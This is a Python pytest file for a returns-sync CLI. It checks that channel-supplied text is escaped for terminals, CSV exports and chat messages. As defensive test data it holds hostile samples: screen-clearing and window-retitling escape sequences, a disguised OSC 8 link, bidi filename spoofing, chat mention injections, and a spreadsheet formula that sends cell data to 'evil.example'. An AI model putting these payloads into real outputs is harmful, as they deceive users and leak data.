"""Text from a channel reaches the admin's terminal and the merchant's spreadsheet as text, never as a command.

A customer types the reason, a channel names the product and writes the error body: any of them may carry an
escape sequence (clear the screen, retitle the window, an OSC 8 link that hides where it points), a bidi
override, or a spreadsheet formula. These tests sync such a return through the CLI and read what it prints.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retsync.kit.contract import Page, PullContext, Stream
from retsync.kit.model import Customer
from retsync.safe_text import SPREADSHEET_TRIGGERS, for_chat, for_spreadsheet, for_terminal
from tests.fakes import ScriptedConnector
from tests.test_cli import BrokenConnector, _run, config_file  # noqa: F401 - config_file is a fixture

CLEAR_SCREEN = "\x1b[2J\x1b[H"
WINDOW_TITLE = "\x1b]0;pwned\x07"
HIDDEN_LINK = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
BIDI = "\u202egnp.exe"
C1_CSI = "\x9b31m"
HOSTILE = CLEAR_SCREEN + WINDOW_TITLE + HIDDEN_LINK + BIDI + C1_CSI
BIDI_CONTROLS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")'


@pytest.fixture
def hostile_config(config_file: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """test_cli's two channels: `shop` with returns carrying hostile text, `market` failing with it."""
    del ScriptedConnector.returns[4:]
    first, second, third = ScriptedConnector.returns[:3]
    ScriptedConnector.returns[0] = first.model_copy(update={
        "channel_reason": f"Too small {HOSTILE}", "channel_status": f"open{CLEAR_SCREEN}",
        "tracking_number": f"TRACK{WINDOW_TITLE}",
        "customer": Customer(email="buyer0@example.com", name=f"Anna{HIDDEN_LINK}"),
        "lines": tuple(line.model_copy(update={"channel_reason": f"line {HOSTILE}"}) for line in first.lines)})
    ScriptedConnector.returns[1] = second.model_copy(update={"channel_reason": FORMULA})
    ScriptedConnector.returns[2] = third.model_copy(update={"channel_reason": "-1+2", "channel_status": "@SUM(A1)"})
    order = ScriptedConnector.orders["O0"]
    ScriptedConnector.orders["O0"] = order.model_copy(update={"lines": tuple(
        line.model_copy(update={"title": f"Lamp {HIDDEN_LINK}{BIDI}"}) for line in order.lines)})

    def fail(self: BrokenConnector, stream: Stream, context: PullContext) -> Iterator[Page]:
        raise RuntimeError(f"HTTP 500: {HOSTILE}")

    monkeypatch.setattr(BrokenConnector, "pull", fail)
    return config_file


def _no_control_characters(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in text, f"{bad!r} reached the terminal"


def test_sync_failures_and_channels_print_escape_sequences_as_text(hostile_config: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _run(capsys, "--config", str(hostile_config), "sync")
    assert code == 1 and "shop: ok (4 new, 0 updated returns)" in out
    _no_control_characters(out + err)
    assert "market: FAILED: RuntimeError: HTTP 500: \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in err
    code, out, err = _run(capsys, "--config", str(hostile_config), "channels")
    assert code == 0
    _no_control_characters(out + err)
    assert "(1 in a row): RuntimeError: HTTP 500: \\x1b[2J" in out and "\\u202egnp.exe\\x9b31m" in out


def test_returns_show_and_list_print_channel_text_escaped(hostile_config: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "show", "shop/R0")
    assert code == 0
    _no_control_characters(out + err)
    assert "  reason      wrong_size (Too small \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in out
    assert "  status      requested (channel: open\\x1b[2J\\x1b[H)" in out
    [customer] = [line for line in out.splitlines() if line.startswith("  customer  ")]
    assert customer == "  customer    b***@e***.com  A***", "the name is redacted, hidden link and all"
    assert "Lamp \\x1b]8;;https://evil.example/" in out, "order line titles are shown, escaped"
    for line in out.splitlines():
        assert "\r" not in line
    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "list")
    assert code == 0 and "(4 returns)" in out
    _no_control_characters(out + err)
    assert "open\\x1b[2J\\x1b[H" in out


def test_csv_cells_that_would_be_formulas_are_text(hostile_config: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
    code, out, _ = _run(capsys, "--config", str(hostile_config), "returns", "list", "--format", "csv")
    assert code == 0
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(out))}
    assert rows["R1"]["channel_reason"] == "'" + FORMULA
    assert rows["R2"]["channel_reason"] == "'-1+2" and rows["R2"]["channel_status"] == "'@SUM(A1)"
    assert rows["R3"]["channel_reason"] == "Too small", "ordinary text is left alone"
    assert rows["R3"]["quantity"] == "2" and rows["R3"]["line_count"] == "2", "numbers stay numbers"
    assert "\x1b" not in out and rows["R0"]["channel_reason"].startswith("Too small \\x1b[2J")


def test_a_return_id_too_big_for_the_database_is_one_line(hostile_config: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
    for args in (("returns", "show", "99999999999999999999999"), ("decide", "99999999999999999999999", "accept"),
                 ("returns", "show", "9223372036854775808"), ("returns", "show", "shop/R99")):
        code, out, err = _run(capsys, "--config", str(hostile_config), *args)
        assert code == 1, args
        assert err.startswith("retsync: no return ") and err.count("\n") == 1 and "Traceback" not in err, err
    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "list", "--limit",
                          "99999999999999999999999")
    assert code == 0 and "(4 returns)" in out
    for since in ("0001-01-01T00:00+05:00", "9999-12-31T23:00-05:00", "99999-01-01"):
        code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "list", "--since", since)
        assert code == 2 and err.startswith("retsync: --since ") and err.count("\n") == 1, err  # as report
    for number in ("99999999999999999999999", "-3", "0"):
        code, out, err = _run(capsys, "--config", str(hostile_config), "decide", "shop/R3", "accept",
                              "--line", "R3-L0", "--quantity", number)
        assert code in (1, 2) and "Traceback" not in err and err.strip().count("\n") <= 2, err
        assert ("--quantity" in err or "quantity" in err) and "recorded decision" not in out, err


@pytest.mark.parametrize(("text", "shown"), [
    ("plain text, ünïcödé", "plain text, ünïcödé"),
    ("a\x1b[31mred", "a\\x1b[31mred"),
    ("tab\tand\nnewline\r", "tab\\x09and\\x0anewline\\x0d"),
    ("\u202eright-to-left\u2066", "\\u202eright-to-left\\u2066"),
    ("\x9d8;;x\x9c", "\\x9d8;;x\\x9c"),
])
def test_for_terminal(text: str, shown: str) -> None:
    assert for_terminal(text) == shown
    assert for_terminal("line one\nline\ttwo\x1b", keep_newlines=True) == "line one\nline\ttwo\\x1b"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "\\x0dx"),
    ("a=1", "a=1"), ("", ""), (-5, -5), (2.5, 2.5), (None, None),
])
def test_for_spreadsheet(value: object, cell: object) -> None:
    assert for_spreadsheet(value) == cell


@pytest.mark.parametrize(("text", "escaped"), [
    ("<!channel> look", "&lt;!channel&gt; look"),
    ("hi <@U024BE7LH>", "hi &lt;@\u200bU024BE7LH&gt;"),
    ("<https://evil.example|your invoice>", "&lt;https://evil.example|your invoice&gt;"),
    ("@everyone @here @channel", "@\u200beveryone @\u200bhere @\u200bchannel"),
    ("[invoice](https://evil.example)", "[invoice]\u200b(https://evil.example)"),
    ("Tom & Jerry", "Tom &amp; Jerry"),
    ("<at>Anna</at>", "&lt;at&gt;Anna&lt;/at&gt;"),
    ("size 42 @ 10 EUR", "size 42 @ 10 EUR"),
])
def test_for_chat(text: str, escaped: str) -> None:
    assert for_chat(text) == escaped


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
def test_nothing_a_channel_writes_survives_as_a_command(text: str) -> None:
    """Any text at all: no control character reaches a terminal, no cell opens as a formula, no chat markup."""
    shown = for_terminal(text)
    assert not any(unicodedata.category(ch) == "Cc" or ch in BIDI_CONTROLS for ch in shown)
    assert "\n" not in shown and for_terminal(shown) == shown, "escaping twice changes nothing"
    lines = for_terminal(text, keep_newlines=True)
    assert not any(unicodedata.category(ch) == "Cc" and ch not in "\n\t" or ch in BIDI_CONTROLS for ch in lines)
    assert not for_spreadsheet(text).startswith(SPREADSHEET_TRIGGERS)
    chat = for_chat(text)
    assert "<" not in chat and ">" not in chat and not re.search(r"@\w", chat) and "](" not in chat
